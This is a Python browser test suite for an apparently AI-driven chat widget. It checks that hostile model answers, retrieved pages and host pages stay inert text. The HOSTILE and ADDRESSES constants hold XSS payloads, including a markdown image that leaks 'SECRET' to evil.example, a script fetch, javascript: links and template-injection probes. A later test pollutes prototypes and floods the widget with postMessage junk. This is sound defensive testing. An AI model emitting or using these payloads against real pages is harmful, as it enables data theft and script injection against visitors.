"""What a wrong snippet, a hostile page or a hostile answer can do to the widget: nothing."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import Any

import psycopg
import pytest
from playwright.sync_api import Page, expect

from app.settings import Secret, Settings
from ingestion.extract.clean import clean
from retrieval.answer import answer
from retrieval.model import Citation, Sentence
from tests.attack.outputs import RENDER
from tests.attack.worst import WorstModel
from tests.browser.visitor.serving import Milo, Script, Stranger, page_with, serving, strangers_site
from tests.browser.visitor.walking import VISITOR_ID, answered, ask, chat, open_chat, requests, said
from tests.conftest import Pair, copied_database
from tests.integration.retrieval.planting import Planted, plant

pytestmark = pytest.mark.browser

HOSTILE = (
    "![x](https://evil.example/p.png?q=SECRET)",
    "<img src=https://evil.example/?q=1 onerror=alert(1)>",
    "[click](javascript:alert(1)) <a href=https://evil.example>here</a>",
    "<script>fetch('https://evil.example')</script><style>@import url(https://evil.example/a.css)</style>",
    "<svg onload=alert(1)><iframe src=https://evil.example></iframe>",
    "&lt;img src=x&gt; {{7*7}} ${7*7} \u202etxet",
)
ADDRESSES = (
    "javascript:alert(1)",
    "data:text/html,x",
    "https://user:pw@evil.example/",
    "file:notes.pdf",
    "//evil.example",
)


SUPPORTED = "Adults pay 5 € for a ticket."
AT_ONCE = 24  # outputs in one answer: a visitor may ask twelve times in a row
NO_ELEMENTS = (
    ":is(img, svg, script, style, iframe, object, embed, form, video, audio, math, base, link, meta, template)"
)


@dataclass
class Attacked:
    """A whole Milo whose model does its worst, and whose pages hold hostile text."""

    milo: Milo
    stranger: Stranger
    model: WorstModel


@pytest.fixture(scope="module")
def attacked(
    milo_server: Milo, pair: Pair, cluster: psycopg.Connection, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Attacked]:
    model = WorstModel()
    pages = [Planted(f"{SUPPORTED}\nChildren pay 3 € for a ticket.", clean(RENDER["img with an error"])[0])]
    pages += [Planted(clean(f"Notice {n}: {text[:200]}")[0], f"Notice {n}") for n, text in enumerate(RENDER.values())]
    folder = tmp_path_factory.mktemp("attacked")
    with copied_database(pair, cluster) as (_, urls), model.in_thread():
        plain = pair.resolved(Settings.from_env({"MILO_DATA_DIR": str(folder)}))
        assert plain.redis_url is not None
        settings = replace(
            plain,
            database=urls,
            redis_url=Secret(plain.redis_url.reveal()),
            openai_api_key=Secret(model.key),
            openai_base_url=model.base_url,
            chat=("openai:worst",),
        )
        with serving(settings, Script()) as milo:
            milo.run(lambda services: plant(services.database, pages, business=milo.business_id))
            milo.sql("UPDATE documents SET url = 'https://bakery.example/prices?a=1'")
            # Those vectors are not of this server's model: search goes by words, as after a change of the model.
            with strangers_site(milo.url) as stranger:
                stranger.pages["/"] = page_with(milo)
                yield Attacked(milo, stranger, model)


def test_nothing_a_model_or_a_page_says_acts_in_a_browser(
    attacked: Attacked, page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    """From a model on loopback through retrieval and the stream into the widget: no request, no element, no window."""
    # The other server of these tests has a script in the place of retrieval; here is nothing between.
    monkeypatch.setattr("app.channels.web.asking.answer", answer)
    milo, model = attacked.milo, attacked.model
    opened: list[str] = []
    page.context.on("page", lambda other: opened.append(other.url))
    page.on("dialog", lambda dialog: opened.append(dialog.message))  # it would also hold the page up
    page.on("download", lambda download: opened.append(download.url))
    frame = open_chat(page, attacked.stranger)
    texts = list(RENDER.values())
    batches = [texts[at : at + AT_ONCE] for at in range(0, len(texts), AT_ONCE)]
    for number, batch in enumerate(batches, 1):
        model.says = lambda _, batch=batch: "\n".join((f"{SUPPORTED} [1]", *batch, *(f"{one} [1][2]" for one in batch)))
        ask(frame, "What do adults pay for a ticket?")
        expect(frame.locator(".theirs:not(.growing)")).to_have_count(number, timeout=20_000)
    assert sum("You answer visitors" in heard[0]["content"] for heard in model.heard) == len(batches)
    model.says = lambda _: "NO_ANSWER"  # what a page holds as text is then quoted as the closest
    for number, notice in enumerate((4, 29, 52), len(batches) + 1):
        ask(frame, f"What does notice {notice} say?")
        expect(frame.locator(".theirs:not(.growing)")).to_have_count(number, timeout=20_000)
    expect(frame.locator(".theirs").first).to_contain_text(SUPPORTED)
    for mark in frame.locator(".mark").all():
        mark.click()
    assert frame.locator(f".theirs {NO_ELEMENTS}").count() == 0
    links = frame.locator(".theirs a").evaluate_all("(all) => all.map((one) => [one.href, one.rel, one.target])")
    assert links, "quotes lead to their page"
    for href, rel, target in links:
        assert href.startswith("https://bakery.example/prices?a=1") and "noopener" in rel and target == "_blank"
    said_to_visitor = frame.locator("#log").inner_text()
    assert not any("\u202a" <= sign <= "\u202e" or sign > "\U000e0000" for sign in said_to_visitor)
    ours = (milo.url, attacked.stranger.url)
    assert [url for url in requests(page) if not url.startswith(ours)] == []
    assert opened == [] and frame.url.startswith(milo.url) and page.url.startswith(attacked.stranger.url)
    assert said(page) == [], "and no policy had to stop anything"


def test_hostile_answer_is_text_and_nothing_else(page: Page, stranger: Stranger, milo: Milo) -> None:
    milo.script.sentences = tuple(
        Sentence(text, (Citation(1, text, ADDRESSES[number % len(ADDRESSES)], text, 1),))
        for number, text in enumerate(HOSTILE)
    )
    frame = open_chat(page, stranger)
    ask(frame)
    marks = frame.locator(".mark")
    expect(marks).to_have_count(len(HOSTILE))
    for number in range(len(HOSTILE)):
        marks.nth(number).click()
    for text in HOSTILE:
        expect(frame.locator(".theirs")).to_contain_text(text)
    assert frame.locator(".theirs :is(img, svg, script, style, iframe, a, form, video)").count() == 0
    ours = (milo.url, stranger.url)
    assert [url for url in requests(page) if not url.startswith(ours)] == []
    assert said(page) == []


@pytest.mark.parametrize(
    ("make", "warns", "launchers"),
    [
        (lambda milo: page_with(milo, copies=2), "stands twice", 1),
        (lambda milo: page_with(milo, key=""), "no valid data-key", 0),
        (lambda milo: page_with(milo, key="<b>"), "no valid data-key", 0),
    ],
    ids=["two copies", "no key", "broken key"],
)
def test_wrong_snippet_stays_silent_with_one_warning(
    page: Page, stranger: Stranger, milo: Milo, make: Any, warns: str, launchers: int
) -> None:
    stranger.pages["/"] = make(milo)
    page.goto(stranger.url)
    page.wait_for_load_state("networkidle")
    expect(page.locator("milo-chat")).to_have_count(launchers)
    assert len(said(page)) == 1
    assert said(page)[0].startswith("warning: Milo:")
    assert warns in said(page)[0]


def test_unknown_key_takes_the_button_away(page: Page, stranger: Stranger, milo: Milo) -> None:
    stranger.pages["/"] = page_with(milo, key="w_unknown")
    page.goto(stranger.url)
    page.get_by_role("button", name="Chat").click()
    expect(page.locator("milo-chat")).to_have_count(0)
    ours = [line for line in said(page) if "Milo" in line]
    assert len(ours) == 1
    assert "not known" in ours[0]


def test_only_listed_sites_may_embed(page: Page, stranger: Stranger, milo: Milo) -> None:
    milo.sql("UPDATE businesses SET allowed_origins = '{https://somewhere.example}'")
    page.goto(stranger.url)
    page.get_by_role("button", name="Chat").click()
    expect(page.get_by_text("The chat cannot be reached right now.")).to_be_visible()
    milo.sql("UPDATE businesses SET allowed_origins = ARRAY[%s]", stranger.url)
    page.get_by_role("button", name="Try again").click()
    expect(chat(page).get_by_text("I am an AI")).to_be_visible()


def test_host_page_cannot_speak_for_a_stranger_or_change_the_chat(page: Page, stranger: Stranger, milo: Milo) -> None:
    frame = open_chat(page, stranger)
    page.evaluate(
        """() => {
          const frame = document.querySelector('milo-chat').shadowRoot.querySelector('iframe').contentWindow;
          const types = ['hello', 'opened', 'closed', 'ready', 'visitor', 'forget', 'constructor', '__proto__', ''];
          for (let i = 0; i < 1000; i++) {
            const type = 'milo:' + types[i % types.length];
            const junk = [{type, visitor: 'x'.repeat(i)}, type, null, i, [type], {type: {}}, {type, id: '<b>'}][i % 7];
            frame.postMessage(junk, '*');
            window.postMessage(junk, '*');
          }
        }"""
    )
    ask(frame)
    answered(frame)
    kept = page.evaluate("() => ({...localStorage})")
    assert list(kept) == [f"milo:{milo.key}"]
    assert VISITOR_ID.match(kept[f"milo:{milo.key}"])


def test_hostile_host_page_changes_nothing(page: Page, stranger: Stranger, milo: Milo) -> None:
    page.add_init_script(
        """if (location.hostname === 'localhost') {
          const mine = () => { throw new Error('mine') };
          Object.prototype.polluted = 1;
          Array.prototype.extra = () => {};
          window.fetch = mine;
          JSON.parse = JSON.stringify = mine;
        }"""
    )
    frame = open_chat(page, stranger)
    ask(frame)
    answered(frame)
    assert said(page) == []
